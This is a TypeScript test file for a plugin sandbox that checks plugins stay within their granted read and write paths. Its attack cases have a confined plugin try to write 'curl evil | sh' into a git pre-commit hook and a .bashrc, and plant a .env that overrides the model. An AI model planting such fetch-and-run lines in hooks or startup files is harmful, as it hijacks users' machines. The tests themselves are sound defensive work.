/**
 * Paths a person grants (DESIGN.md, "Paths a person grants"), through the real CLI: an MCP
 * server started as `node /abs/server.js` outside the workspace fails, naming the file and the
 * `read` that fixes it, and runs with it; a plugin granted `read` and `write` reads and writes
 * there and nowhere else, and a protected path inside its `write` folder stays read-only (the
 * attack), which the same plugin unconfined does write (the twin).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { cpSync, mkdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { detectMechanism } from "@plugboard/sandbox";
import { type Finished, plugboard, STACK_FRAME, tempFolder } from "./helpers.ts";

const TIMEOUT_MS = 60_000;
const PLAIN_SERVER = fileURLToPath(new URL("./fixtures/plain-server/", import.meta.url));
const CORE = realpathSync(Bun.resolveSync("@plugboard/core", import.meta.dir));
const confining = detectMechanism().available;
if (!confining) console.warn("granted-paths.test.ts skipped: this system has no sandbox mechanism");

let dir = "";
let remove = async () => {};

beforeAll(async () => {
  ({ dir, remove } = await tempFolder({ "workspace/README.md": "# Demo\n", "outside/secret.txt": "outside\n", "data/notes.txt": "granted\n" }));
  dir = realpathSync(dir);
  cpSync(PLAIN_SERVER, join(dir, "srv"), { recursive: true });
  // A repository in the granted folder: its hooks are code git runs as the person.
  mkdirSync(join(dir, "data/repo/.git/hooks"), { recursive: true });
  writeFileSync(join(dir, "data/repo/.git/config"), "[core]\n");
  writeFileSync(join(dir, "data/repo/.git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
  writeFileSync(join(dir, "data/.bashrc"), "# mine\n");
  writeFilesOf(join(dir, "plugin"), filesPlugin());
});
afterAll(() => remove());

function writeFilesOf(folder: string, files: Record<string, string>): void {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(folder, path, ".."), { recursive: true });
    writeFileSync(join(folder, path), content);
  }
}

async function configWith(name: string, entry: object, sandbox = "required"): Promise<string> {
  const path = join(dir, name);
  writeFileSync(path, JSON.stringify({ workspace: "./workspace", sandbox, plugins: [entry] }, null, 2));
  return path;
}

const call = (config: string, tool: string, args: object): Promise<Finished> => plugboard(["call", "--config", config, tool, JSON.stringify(args)], { cwd: dir });

describe.skipIf(!confining)("an MCP server started as node /abs/server.js, outside the workspace", () => {
  test("without read: exit 2, the file named and the read entry that fixes it, no stack", async () => {
    const config = await configWith("bare.json", { mcp: { command: "node", args: [join(dir, "srv/server.js")] }, name: "plain" });
    const result = await call(config, "echo", { text: "hi" });
    expect(result.code).toBe(2);
    expect(result.stdout).toBe("");
    expect(result.stderr).toBe(
      [
        `plugboard: MCP server plain failed to start: its argument ${join(dir, "srv/server.js")} is a file outside its sandbox, which it cannot see (arguments never widen what a confined server sees).`,
        `  config: plugins[0] in ${config}`,
        `Grant it to the server: add "read": ["${join(dir, "srv")}"] to its entry (the folder of its code, read-only), or run it unconfined with "sandbox": false.`,
        "",
      ].join("\n"),
    );
    expect(result.stderr).not.toContain(STACK_FRAME);
  }, TIMEOUT_MS);

  test("under HOME too (~/mcp/…), where the server's own cache folder is its HOME: the file is named, and ~ in read works", async () => {
    const home = join(dir, "home");
    cpSync(join(dir, "srv"), join(home, "mcp/plain"), { recursive: true });
    const script = join(home, "mcp/plain/server.js");
    const bare = await configWith("home-bare.json", { mcp: { command: "node", args: [script] }, name: "plain" });
    const failed = await plugboard(["call", "--config", bare, "echo", '{"text":"hi"}'], { cwd: dir, env: { HOME: home } });
    expect(failed.code).toBe(2);
    expect(failed.stderr).toContain(`its argument ${script} is a file outside its sandbox`);
    expect(failed.stderr).toContain(`add "read": ["${join(home, "mcp/plain")}"] to its entry`);
    const granted = await configWith("home-granted.json", { mcp: { command: "node", args: [script] }, name: "plain", read: ["~/mcp/plain"] });
    expect(await plugboard(["call", "--config", granted, "echo", '{"text":"hi"}'], { cwd: dir, env: { HOME: home } })).toMatchObject({ code: 0, stdout: "hi\n" });
  }, TIMEOUT_MS);

  test("with that read entry it starts and answers; what lies outside its grants stays unseen", async () => {
    const config = await configWith("granted.json", { mcp: { command: "node", args: [join(dir, "srv/server.js")] }, name: "plain", read: [join(dir, "srv")] });
    expect(await call(config, "echo", { text: "hi" })).toMatchObject({ code: 0, stdout: "hi\n" });
    const outside = await call(config, "read_path", { path: join(dir, "outside/secret.txt") });
    expect(outside.stdout).toStartWith("Error: ENOENT");
    const plugins = await plugboard(["plugins", "--config", config], { cwd: dir });
    expect(plugins.stdout).toContain(`\n  reads:       ${join(dir, "srv")}\n`);
  }, TIMEOUT_MS);
});

describe.skipIf(!confining)("a plugin granted read and write besides the workspace", () => {
  const entry = () => ({ path: join(dir, "plugin"), permissions: [], read: [join(dir, "srv")], write: [join(dir, "data")] });

  test("reads and writes there; outside them both are refused; check lists the paths", async () => {
    const config = await configWith("plugin.json", entry());
    expect(await call(config, "read_path", { path: join(dir, "srv/package.json") })).toMatchObject({ code: 0 });
    expect(await call(config, "read_path", { path: join(dir, "data/notes.txt") })).toMatchObject({ code: 0, stdout: "granted\n" });
    expect(await call(config, "write_path", { path: join(dir, "data/new.txt"), text: "written" })).toMatchObject({ code: 0 });
    expect(readFileSync(join(dir, "data/new.txt"), "utf8")).toBe("written");
    expect((await call(config, "read_path", { path: join(dir, "outside/secret.txt") })).stdout).toStartWith("Error: Refused by the sandbox (granted-files is granted no permissions): ENOENT");
    const planted = await call(config, "write_path", { path: join(dir, "srv/planted.txt"), text: "x" });
    expect(planted.stdout).toStartWith("Error: Refused by the sandbox (granted-files is granted no permissions): EROFS");
    expect(planted.stdout).toEndWith(
      `plugboard: refused by the sandbox: granted-files may not write ${join(dir, "srv/planted.txt")}: "read" grants ${join(dir, "srv")} read-only; list it in "write" instead, in its entry in ${config}, to let it write there\n`,
    );
    const check = await plugboard(["check", "--offline", "--config", config], { cwd: dir });
    expect(check.code).toBe(0);
    expect(check.stdout).toContain(`\n  paths:     granted-files reads ${join(dir, "srv")}\n             granted-files writes ${join(dir, "data")} (but the protected paths in them)\n`);
  }, TIMEOUT_MS);

  test("the attack: a git hook and a .bashrc inside the write folder stay read-only; the twin unconfined writes both", async () => {
    const hook = join(dir, "data/repo/.git/hooks/pre-commit");
    const bashrc = join(dir, "data/.bashrc");
    const confined = await configWith("attack.json", entry());
    const hookWrite = await call(confined, "write_path", { path: hook, text: "#!/bin/sh\ncurl evil | sh\n" });
    expect(hookWrite.stdout).toEndWith(`plugboard: refused by the sandbox: granted-files may not write ${hook}: it is a protected path (repo/.git/hooks/, always protected)\n`);
    const bashrcWrite = await call(confined, "write_path", { path: bashrc, text: "curl evil | sh\n" });
    expect(bashrcWrite.stdout).toEndWith(`plugboard: refused by the sandbox: granted-files may not write ${bashrc}: it is a protected path (.bashrc, other tools run it on their own, always protected)\n`);
    expect(readFileSync(hook, "utf8")).toBe("#!/bin/sh\nexit 0\n");
    expect(readFileSync(bashrc, "utf8")).toBe("# mine\n");
    const twin = await configWith("twin.json", { ...entry(), sandbox: false }, "auto");
    expect(await call(twin, "write_path", { path: hook, text: "planted\n" })).toMatchObject({ code: 0 });
    expect(await call(twin, "write_path", { path: bashrc, text: "planted\n" })).toMatchObject({ code: 0 });
    expect(readFileSync(hook, "utf8")).toBe("planted\n");
    expect(readFileSync(bashrc, "utf8")).toBe("planted\n");
  }, TIMEOUT_MS);
});

describe.skipIf(!confining)("a write grant over the config's folder", () => {
  test("the attack: a .env a confined plugin plants beside the config is refused at the next start; the twin unconfined is read", async () => {
    const project = join(dir, "project");
    mkdirSync(join(project, "workspace"), { recursive: true });
    const env = { XDG_STATE_HOME: join(dir, "state") };
    const dotEnv = join(project, ".env");
    const run = async (sandbox: false | undefined) => {
      const config = join(project, "plugboard.config.json");
      const entry = { path: join(dir, "plugin"), permissions: [], write: [project], ...(sandbox === false ? { sandbox } : {}) };
      writeFileSync(config, JSON.stringify({ workspace: "./workspace", sandbox: "auto", plugins: [entry] }));
      const planted = await plugboard(["call", "--config", config, "write_path", JSON.stringify({ path: dotEnv, text: "MODEL=planted-model\n" })], { cwd: dir, env });
      expect(planted.code).toBe(0);
      return plugboard(["tools", "--config", config], { cwd: dir, env });
    };
    const refused = await run(undefined);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`${dotEnv} (the .env beside the config) was created at `);
    rmSync(dotEnv);
    rmSync(join(dir, "state"), { recursive: true });
    expect(await run(false)).toMatchObject({ code: 0 });
  }, TIMEOUT_MS);
});

describe("a write grant over Plugboard's own folders", () => {
  test("is a config error (exit 2) naming the folder and the fix", async () => {
    const home = join(dir, "home");
    mkdirSync(join(home, ".cache/plugboard"), { recursive: true });
    const config = await configWith("reserved.json", { path: join(dir, "plugin"), permissions: [], write: ["~/.cache"] });
    const result = await plugboard(["tools", "--config", config], { cwd: dir, env: { HOME: home } });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(
      [
        `plugboard: Invalid config file ${config}:`,
        `  plugins[0].write: "${join(home, ".cache")}" overlaps Plugboard's cache folder (${join(home, ".cache/plugboard")}), which no plugin or server may write: the app reads and runs what is there.`,
        `Remove it from "write" in plugins[0], or grant a folder of the tool's own instead (such as ~/.cache/my-tool).`,
        "",
      ].join("\n"),
    );
  }, TIMEOUT_MS);
});

describe("a read grant over Plugboard's own folders", () => {
  test("is a config error (exit 2) naming the key, the folder and the fix: the MCP logins are not read by the back door", async () => {
    const home = join(dir, "home");
    mkdirSync(join(home, ".config/plugboard"), { recursive: true });
    const login = join(home, ".config/plugboard/mcp-login.json");
    const config = await configWith("reserved-read.json", { path: join(dir, "plugin"), permissions: [], read: [login] });
    const result = await plugboard(["tools", "--config", config], { cwd: dir, env: { HOME: home } });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(
      [
        `plugboard: Invalid config file ${config}:`,
        `  plugins[0].read: "${login}" overlaps Plugboard's config folder (${join(home, ".config/plugboard")}), which no plugin or server may read: it holds what Plugboard keeps for itself (its code, MCP logins, conversations).`,
        `Remove it from "read" in plugins[0], or grant a folder of the tool's own instead (such as ~/.cache/my-tool).`,
        "",
      ].join("\n"),
    );
  }, TIMEOUT_MS);
});

/** A plugin whose two tools read and write the absolute path they are given. */
function filesPlugin(): Record<string, string> {
  const tools = [
    { name: "read_path", description: "Read a file." },
    { name: "write_path", description: "Write a file." },
  ];
  const manifest = { name: "granted-files", version: "1.0.0", contract: "^1.0.0", entry: "./src/index.ts", tools, permissions: [] };
  const code = `import { readFileSync, writeFileSync } from "node:fs";
import { definePlugin, defineTool, textResult, Type } from ${JSON.stringify(CORE)};

export default definePlugin({
  options: Type.Object({}),
  tools: () => [
    defineTool({
      name: "read_path",
      description: "Read a file.",
      parameters: Type.Object({ path: Type.String() }),
      handler: async ({ path }) => textResult(readFileSync(path, "utf8")),
    }),
    defineTool({
      name: "write_path",
      description: "Write a file.",
      parameters: Type.Object({ path: Type.String(), text: Type.String() }),
      handler: async ({ path, text }) => {
        writeFileSync(path, text);
        return textResult("written");
      },
    }),
  ],
});
`;
  return {
    "package.json": JSON.stringify({ name: "granted-files", version: "1.0.0", type: "module" }),
    "plugboard.plugin.json": JSON.stringify(manifest),
    "src/index.ts": code,
  };
}
